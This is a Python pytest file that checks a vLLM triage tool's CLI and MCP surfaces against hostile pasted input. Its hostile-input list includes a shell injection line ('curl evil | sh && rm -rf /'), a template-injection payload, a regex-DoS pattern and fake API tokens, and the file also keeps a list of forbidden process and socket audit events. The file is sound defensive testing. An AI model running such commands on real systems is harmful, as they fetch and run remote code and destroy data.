"""What people (and attackers) paste, over both doors: a clear answer, nothing executed, no secret, bounded time.

One million characters, shell injection, template injection, secrets and garbage go through every tool that takes text.
"""

import json
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from mcp.client import Client
from mcp.types import TextContent

from vllm_triage.report import tools
from vllm_triage.surfaces.cli import main
from vllm_triage.surfaces.mcp import build

pytestmark = pytest.mark.anyio

TAKES_COMMAND = ("parse_vllm_command", "estimate_kv_bytes", "classify_bottleneck", "check_compat", "diagnose")
SECRET = "hf_AbCdEfGhIjKlMnOpQrStUvWxYz012345"  # noqa: S105 - made up
FORBIDDEN = ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.fork", "socket.connect", "pty.spawn")
ROOT = Path(__file__).parents[2]
OWN = tuple(str(place) for place in (ROOT / "server", ROOT / "prompts", sys.prefix, sys.base_prefix, json.__path__[0]))
"""Where a process may read: its own code and data."""
HOSTILE = {
    "empty": "",
    "blank": " \n\t ",
    "garbage": "\x00\x1b[31m\ufffd\u202e ][}{ $$ \\ %%%",
    "prose": "My server is slow, please help!",
    "injection": "vllm serve Qwen/Qwen3-8B --served-model-name $(touch /tmp/pwned) `id` ; curl evil | sh && rm -rf /",
    "template": "vllm serve {{ ''.__class__.__mro__ }} --served-model-name '{% raw %}${7*7}'",
    "secret": f"HF_TOKEN={SECRET} vllm serve Qwen/Qwen3-8B --api-key sk-live-0123456789abcdef --hf-token {SECRET}",
    "unclosed": "vllm serve Qwen/Qwen3-8B --served-model-name 'x",
    "one long line": "vllm serve " + "a" * 2**20,
    "one long word list": "vllm serve Qwen/Qwen3-8B " + "--x 1 " * 1000,
}
SECRETS = (SECRET, "sk-live-0123456789abcdef")


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture(scope="module")
def started() -> Iterator[list[str]]:
    """What the process started, connected to, wrote, or read outside itself, by the interpreter's own audit events."""
    seen: list[str] = []
    armed = True

    def hook(event: str, arguments: tuple[Any, ...]) -> None:
        if armed and (event in FORBIDDEN or (event == "open" and _foreign(*arguments[:2]))):
            seen.append(f"{event}{arguments}")

    sys.addaudithook(hook)  # cannot be taken out again: it is disarmed instead
    yield seen
    armed = False


def _foreign(path: object, mode: object) -> bool:
    return isinstance(path, str) and (not path.startswith(OWN) or (isinstance(mode, str) and not mode.startswith("r")))


@pytest.mark.parametrize("tool", TAKES_COMMAND)
@pytest.mark.parametrize("kind", HOSTILE)
async def test_over_mcp_hostile_text_is_answered_and_nothing_runs(kind: str, tool: str, started: list[str]) -> None:
    async with Client(build(), mode="2026-07-28") as client:
        before = len(started)
        result = await client.call_tool(tool, {"command": HOSTILE[kind]})
    assert started[before:] == []
    [content] = result.content
    assert isinstance(content, TextContent)
    assert content.text.strip()
    assert "defect" not in content.text
    everything = content.text + json.dumps(result.structured_content)
    assert not any(secret in everything for secret in SECRETS)
    assert "\x1b" not in everything
    assert len(content.text) < 120_000


@pytest.mark.parametrize("kind", HOSTILE)
def test_on_the_command_line_hostile_text_is_answered_and_nothing_runs(
    kind: str, started: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    before = len(started)
    status = main(["parse", "--json", "--command", HOSTILE[kind]] if HOSTILE[kind] else ["parse", "--json", ""])
    out, err = capsys.readouterr()
    assert started[before:] == []
    assert status in (0, 1, 2)
    assert bool(err) == (status == 2)
    assert not any(secret in out + err for secret in SECRETS)
    assert "Traceback" not in err


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_evidence_is_answered_too(kind: str, started: list[str]) -> None:
    before = len(started)
    answer = tools.call("classify_bottleneck", {"evidence": [HOSTILE[kind], "# HELP\nvllm:num_requests_running NaN\n"]})
    assert started[before:] == []
    everything = json.dumps(answer.to_json()) + answer.to_text()
    assert answer.to_json()["status"] == "refused"
    assert not any(secret in everything for secret in SECRETS)
    assert "\x1b" not in everything


def test_a_secret_is_counted_where_it_was_blanked() -> None:
    answer = tools.call("parse_vllm_command", {"command": HOSTILE["secret"]}).to_json()
    assert answer["redacted"] >= 2
    assert any(item["name"] == "HF_TOKEN" for item in answer["env"])


@pytest.mark.parametrize("tool", ["explain"])
@pytest.mark.parametrize("term", ["", " ", "x" * 201, "\x00", "--", "vllm:", SECRET, "(a+)+$" * 20])
def test_a_hostile_term_is_refused_in_words(tool: str, term: str) -> None:
    with pytest.raises(ValueError) as error:  # noqa: PT011 - the class is asserted below
        tools.call(tool, {"term": term})
    assert tools.is_domain_error(error.value)
    assert str(error.value).isprintable()
    assert SECRET not in str(error.value)
